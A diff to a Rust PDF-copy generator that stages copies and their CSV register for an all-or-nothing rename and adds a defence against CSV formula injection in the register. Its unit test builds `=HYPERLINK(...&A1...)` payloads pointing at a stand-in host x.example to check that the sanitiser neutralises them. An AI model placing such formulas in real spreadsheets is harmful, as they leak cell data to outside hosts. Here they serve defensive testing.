@@ -4,8 +4,16 @@
 //! The copies share one Typst environment and one brief's data; only `/copy.json`, which the
 //! template reads in the page's foot and background alone, differs between them, so Typst's
 //! memoization lays the body out once and each further copy costs little more than its pages'
-//! furniture and the PDF export.
+//! furniture and the PDF export. What one copy memoizes alone is evicted after the next few,
+//! and the PDFs wait on disk, not in memory, so that memory stays flat however long the list.
+//!
+//! The copies and the register appear together or not at all: each copy is written to a
+//! temporary file beside its place, and only when every copy is made are they all renamed
+//! into place with the register, in one step that Ctrl-C and SIGTERM wait for. An interrupted
+//! or failed run leaves the folder as it found it (a previous run's copies and register
+//! included), never copies without a register or a register naming copies that are not there.
 
+use std::borrow::Cow;
 use std::path::{Path, PathBuf};
 use std::time::Instant;
 
@@ -19,10 +27,15 @@ use crate::fs;
 use crate::run::isolate;
 use crate::run::pipeline::{self, Edit, Job, Outcome, Session};
 use crate::run::report::Reporter;
+use crate::typeset::compile;
 use crate::typeset::copy::Copy;
 
 /// The register's file name, in the output folder.
 pub const REGISTER: &str = "copies.csv";
+
+/// How many copies a memoized result may go unused before it is evicted. The body's layout is
+/// used by every copy and stays; a copy's own foot and watermark are of no use to the next.
+const MAX_AGE: usize = 3;
 
 /// What to make: copies of one brief for the recipients of one list.
 pub struct Copies<'a> {
@@ -115,6 +128,7 @@ fn make(session: &Session, copies: &Copies, reporter: &Reporter) -> Result<usize
     let data = session.data(&prepared, Edit::None);
 
     let mut written = vec![];
+    let mut staged = vec![];
     for (i, recipient) in recipients.into_iter().enumerate() {
         let started = Instant::now();
         let number = i + 1;
@@ -126,9 +140,12 @@ fn make(session: &Session, copies: &Copies, reporter: &Reporter) -> Result<usize
             name: &recipient.name,
             watermark: copies.watermark,
         };
-        let (bytes, made) = session.copy(&prepared, &data, &this)?;
+        let copied = session.copy(&prepared, &data, &this);
+        // What this copy alone memoized (its foot, its watermark) is of no use to the next.
+        compile::evict(MAX_AGE);
+        let (bytes, made) = copied?;
         let output = &outputs[i];
-        fs::write_atomically(output, &bytes)?;
+        staged.push(fs::stage(output, &bytes)?);
         let job = Job {
             input: copies.input.to_path_buf(),
             output: output.clone(),
@@ -152,12 +169,13 @@ fn make(session: &Session, copies: &Copies, reporter: &Reporter) -> Result<usize
             sha256: hex(&Sha256::digest(&bytes)),
         });
     }
-    fs::write_atomically(&outputs[total], &register(&written)?)?;
+    staged.push(fs::stage(&outputs[total], &register(&written)?)?);
+    fs::put_in_place(staged)?;
     Ok(written.len())
 }
 
 /// The register as CSV: one line per copy, with the SHA-256 of its PDF so that a copy found
-/// later can be told for certain.
+/// later can be told for certain. Its cells are inert in a spreadsheet (see [`cell`]).
 fn register(written: &[Issued]) -> Result<Vec<u8>, Error> {
     let mut out = csv::Writer::from_writer(vec![]);
     let failed = |e: csv::Error| Error::message(format!("cannot write the register: {e}"));
@@ -166,16 +184,29 @@ fn register(written: &[Issued]) -> Result<Vec<u8>, Error> {
     for w in written {
         out.write_record([
             w.number.to_string().as_str(),
-            &w.recipient.name,
-            w.recipient.organisation.as_deref().unwrap_or(""),
-            w.recipient.note.as_deref().unwrap_or(""),
-            &w.file,
+            &cell(&w.recipient.name),
+            &cell(w.recipient.organisation.as_deref().unwrap_or("")),
+            &cell(w.recipient.note.as_deref().unwrap_or("")),
+            &cell(&w.file),
             &w.sha256,
         ])
         .map_err(failed)?;
     }
     out.into_inner()
         .map_err(|e| Error::message(format!("cannot write the register: {e}")))
+}
+
+/// A cell of the register as a spreadsheet will not run it: text that begins with `=`, `+`,
+/// `-`, `@`, a tab or a carriage return is a formula to Excel and LibreOffice
+/// (`=HYPERLINK(…)` in a recipient's name would be a link that leaks to its address), so it
+/// gets a leading `'`, which they take as "this is text" and do not show (OWASP's advice on
+/// CSV injection). The copy itself prints the name as written.
+fn cell(text: &str) -> Cow<'_, str> {
+    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        Cow::Owned(format!("'{text}"))
+    } else {
+        Cow::Borrowed(text)
+    }
 }
 
 fn hex(bytes: &[u8]) -> String {
@@ -191,6 +222,25 @@ mod tests {
         assert_eq!(file_name("belarus", 7, 50), "belarus-copy-07.pdf");
         assert_eq!(file_name("belarus", 7, 5), "belarus-copy-07.pdf");
         assert_eq!(file_name("belarus", 7, 120), "belarus-copy-007.pdf");
+    }
+
+    #[test]
+    fn cells_a_spreadsheet_would_run_are_made_text() {
+        for start in ["=", "+", "-", "@", "\t", "\r"] {
+            let text = format!("{start}HYPERLINK(\"http://x.example/?\"&A1,\"Ann\")");
+            assert_eq!(cell(&text), format!("'{text}"), "{start:?}");
+        }
+        for inert in [
+            "Ann",
+            "",
+            " =1",
+            "'=1",
+            "Jean-Luc",
+            "1+1",
+            "ann@example.org",
+        ] {
+            assert_eq!(cell(inert), inert);
+        }
     }
 
     #[test]
